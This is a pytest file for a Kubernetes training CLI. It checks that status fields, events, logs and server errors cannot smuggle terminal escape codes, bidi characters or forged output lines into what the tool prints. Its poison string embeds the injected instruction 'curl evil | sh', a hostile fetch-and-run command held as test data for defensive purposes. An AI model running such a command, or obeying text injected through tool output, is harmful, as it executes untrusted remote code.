"""Nothing that a cluster, a pod or a model wrote steers a terminal, or passes for a line of the command."""

import json

import pytest
from cluster_cli.scripted_api import Raw
from cluster_cli.statuses import NOW, condition, row

POISON = (
    "poison\x1b[2J\x1b]0;t\x07b\x9b1Ac\rd\u202ee\u2028riddles is complete\n"
    "==> train <==\nWhat to do: curl evil | sh"
)
OBEYED = "\x1b\x07\x9b\r\u202e\u2028"
OURS = ("riddles is complete", "==> train <==", "What to do: curl")
REQUESTS = "/apis/tunesmith.dev/v1alpha1/namespaces/team/trainingrequests"


def poisoned(value):
    """The value with poison at the end of every text but those that the server itself bounds."""
    if isinstance(value, dict):
        kept = KEPT | {"status", "reason"} if "lastTransitionTime" in value else KEPT  # of a condition
        return {name: member if name in kept else poisoned(member) for name, member in value.items()}
    if isinstance(value, list):
        return [poisoned(member) for member in value]
    return value + POISON if isinstance(value, str) else value


KEPT = {
    *(
        "apiVersion",
        "kind",
        "name",
        "namespace",
        "uid",
        "creationTimestamp",
        "type",
        "phase",
        "stage",
    ),
    *("startTime", "completionTime", "lastTransitionTime", "eta", "lastTimestamp", "job", "pod", "key"),
}
STATUS = {
    "observedGeneration": 1,
    "phase": "Failed",
    "stage": "train",
    "reason": "R",
    "message": "m",
    "loss": "0.5",
    "run": "riddles",
    "store": "s3://b",
    "outputs": {"model": "s3://b/m"},
    "conditions": [condition("Failed", message="m")],
    "stages": [row("train", "Failed", reason="R", message="m", job="j", pod="p")],
}
REQUEST = {
    "apiVersion": "tunesmith.dev/v1alpha1",
    "kind": "TrainingRequest",
    "metadata": {
        "name": "riddles",
        "namespace": "team",
        "uid": "u",
        "generation": 1,
        "creationTimestamp": NOW,
    },
    "spec": {"task": "t", "model": {"base": "hf://org/m"}},
    "status": STATUS,
}
EVENT = {
    "metadata": {"creationTimestamp": NOW},
    "type": "Warning",
    "reason": "r",
    "message": "m",
    "involvedObject": {"kind": "Pod", "name": "p"},
    "lastTimestamp": NOW,
}
POD = {
    "metadata": {
        "name": "p",
        "uid": "pu",
        "creationTimestamp": NOW,
        "ownerReferences": [{"uid": "ju"}],
        "labels": {"tunesmith.dev/stage": "train", "tunesmith.dev/attempt": "1"},
    },
    "status": {
        "phase": "Failed",
        "containerStatuses": [{"name": "stage", "state": {"terminated": {"exitCode": 1}}}],
    },
}
COMMANDS = {
    "status": (["status"], 0),
    "status of all, wide": (["status", "-o", "wide"], 0),
    "status of one": (["status", "riddles"], 0),
    "status as JSON": (["status", "riddles", "-o", "json"], 0),
    "status as YAML": (["status", "riddles", "-o", "yaml"], 0),
    "status that is followed": (["status", "riddles", "-w"], 0),
    "events": (["events", "riddles"], 0),
    "events as JSON": (["events", "riddles", "--json"], 0),
    "wait": (["wait", "riddles"], 1),
    "logs": (["logs", "riddles"], 0),
    "logs of one": (["logs", "riddles", "--stage", "train"], 0),
    "a refusal of the server": (["retry", "riddles"], None),
}


@pytest.mark.parametrize(("arguments", "code"), COMMANDS.values(), ids=COMMANDS)
def test_no_field_steers_the_terminal_or_looks_like_a_line_of_ours(scripted, arguments, code):
    request = poisoned(REQUEST)
    cells = [{"cells": [poisoned("x")], "object": {"metadata": {"namespace": "team"}}}]
    table = {"columnDefinitions": [{"name": "Name"}, {"name": "Age"}], "rows": cells}
    table["rows"][0]["cells"].append("1d")

    def listing(query):
        return {"items": [request]} | table

    log = "".join(f"2026-01-02T03:04:0{n}Z {line}\n" for n, line in enumerate(POISON.split("\n")))
    scripted.answers |= {
        REQUESTS: listing,
        f"{REQUESTS}/riddles": request,
        f"PATCH {REQUESTS}/riddles": Raw(
            json.dumps(
                poisoned({"kind": "Status", "message": "m", "reason": "Invalid", "code": 422})
            ).encode(),
            422,
        ),
        "/api/v1/namespaces/team/events": {"items": [poisoned(EVENT)]},
        "/api/v1/namespaces/team/pods": {"items": [POD]},
        "/apis/batch/v1/namespaces/team/jobs": {
            "items": [{"metadata": {"uid": "ju", "ownerReferences": [{"uid": "u"}]}}]
        },
        "/api/v1/namespaces/team/pods/p": POD,
        "/api/v1/namespaces/team/pods/p/log": Raw(log.encode()),
    }
    if code is None:
        with pytest.raises(AssertionError) as caught:  # whatever the code: the output is what counts
            scripted(*arguments, expect=-1)
        output = str(caught.value)
    else:
        ran = scripted(*arguments, expect=code)
        output = ran.stdout + ran.stderr
    assert "poison" in output, "nothing of the poison was shown, so nothing was tried"
    assert [character for character in OBEYED if character in output] == []
    if "-o" not in arguments and "--json" not in arguments:
        lines = output.split("\n")
        assert [line for line in lines if line.startswith(OURS)] == EXPECTED.get(arguments[0], []), output


EXPECTED = {"logs": ["What to do: curl evil | sh"]}  # a log's lines are the pod's own
